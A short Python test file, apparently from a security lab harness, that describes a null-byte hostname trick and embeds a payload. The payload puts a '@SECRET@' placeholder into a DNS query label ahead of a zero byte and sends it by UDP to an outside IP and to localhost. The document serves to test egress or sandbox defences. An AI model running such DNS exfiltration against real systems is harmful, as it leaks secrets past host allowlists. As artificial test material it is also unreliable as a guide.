"""puts a zero byte into a name, where two readers end differently"""

from evidence import secret_left as succeeded

SHAPE = "CVE-less hole of 2026: SOCKS5 host evil\\0.google.com"
PROMISE = "P24"
LAB = True
OPTIONS = {"hosts": ["*.rwlab.net"]}
PYTHON = """
import socket, struct
name = b"@SECRET@\\0.api"
labels = bytes([len(name)]) + name + b"\\5rwlab\\3net\\0"
asked = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + struct.pack(">HH", 1, 1)
for server in ("93.184.216.53", "127.0.0.1"):
    try:
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.sendto(asked, (server, 53))
    except OSError:
        pass
"""
